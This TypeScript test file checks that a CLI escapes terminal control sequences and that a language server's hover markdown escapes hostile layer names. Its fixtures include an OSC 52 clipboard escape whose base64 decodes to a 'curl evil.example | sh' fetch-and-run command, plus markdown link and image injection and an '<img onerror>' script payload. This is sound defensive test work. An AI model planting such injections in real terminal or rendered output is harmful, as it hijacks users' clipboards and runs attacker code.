import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { terminalSafe } from '../../src/cli/terminal-text';
import { Analyzer } from '../../src/server/document-analysis';
import { hoverOf } from '../../src/server/document-views';
import { codeSpan, escapeMarkdown } from '../../src/server/markdown';
import { DEFAULT_SETTINGS } from '../../src/server/settings';
import { bundleEntry } from '../helpers/language-server';
import { usePythonParser } from '../helpers/python';
import { writeTemp } from '../helpers/temp';

usePythonParser();

// OSC 52 (set the clipboard), a window title, a colour, a bell, and a bidi override.
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const HOSTILE_TEXT = `${OSC52}\x1b]0;owned\x07\x1b[31mred\u009b2J\u202eevil`;
// eslint-disable-next-line no-control-regex -- what must not reach a terminal
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('terminal output is escaped', () => {
  it('control characters become visible \\u escapes; newlines and tabs stay', () => {
    const safe = terminalSafe(`a\tb\n${HOSTILE_TEXT}`);
    assert.doesNotMatch(safe, CONTROL);
    assert.ok(safe.startsWith('a\tb\n\\u001b]52;c;'));
    assert.match(safe, /\\u009b2J\\u202eevil$/);
  });

  it('JSON stays valid and keeps the same strings', () => {
    const json = JSON.stringify({ name: `x\u0085${HOSTILE_TEXT}` }, null, 2);
    assert.deepEqual(JSON.parse(terminalSafe(json)), JSON.parse(json));
  });

  it('the built CLI prints a crafted spec name and file name without their escape sequences', async () => {
    // Budget: the bundle and two commands within the test runner's default timeout (about 10 s here).
    const cli = await bundleEntry('cli', 'src/cli/main.ts');
    const spec = writeTemp(
      `evil\x1b]52;c;QQ==\x07.arch.yaml`,
      `version: 1\nname: ${JSON.stringify(HOSTILE_TEXT)}\nstem: { width: 64 }\nblock: ` +
        `{}\nstages:\n  - { depth: 2, width: 256, stride: 1 }\n`,
    );
    for (const args of [
      ['lint', spec, '--no-config'],
      ['params', spec],
      ['params', spec, '--json'],
      ['lint', spec, '--format', 'sarif'],
    ]) {
      const run = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', timeout: 60_000 });
      const printed = `${run.stdout}${run.stderr}`;
      assert.ok(printed.length > 0, `${args.join(' ')} printed nothing (exit ${String(run.status)})`);
      assert.doesNotMatch(printed, CONTROL, `${args.join(' ')}: ${JSON.stringify(printed.slice(0, 400))}`);
      // SARIF writes the file as a URI (percent-encoded); the others print the name escaped.
      if (!args.includes('sarif')) assert.match(printed, /evil\\u001b\]52;c;QQ==\\u0007\.arch\.yaml/, args.join(' '));
      if (args[0] === 'params' && !args.includes('--json')) assert.match(printed, /\\u001b\]52;c;Y3Vy/);
      if (args.includes('--json') || args.includes('sarif')) assert.doesNotThrow(() => JSON.parse(run.stdout));
    }
  });
});

/** The markdown outside code spans (CommonMark: a run of n backticks closes only with n). */
function outsideCodeSpans(markdown: string): string {
  return markdown.replace(/(`+)([\s\S]*?[^`])\1(?!`)/g, ' ');
}

describe('hover markdown escapes model text', () => {
  it('code spans take a fence longer than any backtick run, and pad text that starts with one', () => {
    assert.equal(codeSpan('a`b'), '``a`b``');
    assert.equal(codeSpan('`x'), '`` `x ``');
    assert.equal(codeSpan('a|b', true), '`a\\|b`');
    assert.equal(codeSpan('\x1b]52'), '`\\u001b]52`');
  });

  it('prose escapes every markdown special, so no link, image or HTML survives', () => {
    const escaped = escapeMarkdown(
      '![x](https://evil.example/p.png) [a](https://evil.example) <img src=x> https://evil.example',
    );
    assert.doesNotMatch(escaped.replace(/\\./g, ''), /[![\]()<>:]/);
  });

  it('a Keras layer named with links, an image, HTML and backticks stays inside its code span', () => {
    const evil = '![p](https://evil.example/p.png) [click](https://evil.example) <img src=x onerror=alert(1)> ``` `';
    const text =
      'from tensorflow import keras\nfrom tensorflow.keras import layers\n\n' +
      'inputs = keras.Input(shape=(32, 32, 3))\n' +
      `x = layers.Conv2D(16, 3, name=${JSON.stringify(evil)})(inputs)\n` +
      'x = layers.GlobalAveragePooling2D()(x)\noutputs = layers.Dense(10)(x)\nmodel = keras.Model(inputs, outputs)\n';
    const analysis = new Analyzer(() => DEFAULT_SETTINGS).analyse('file:///w/evil.py', '/w/evil.py', text, 1, false);
    const hover = hoverOf(analysis, 4);
    assert.ok(hover, 'the conv line has a hover');
    const markdown = (hover.contents as { value: string }).value;
    assert.ok(markdown.includes(codeSpan(evil, true)), markdown);
    const outside = outsideCodeSpans(markdown);
    assert.doesNotMatch(outside, /\]\(|<img|!\[/, outside);
  });
});
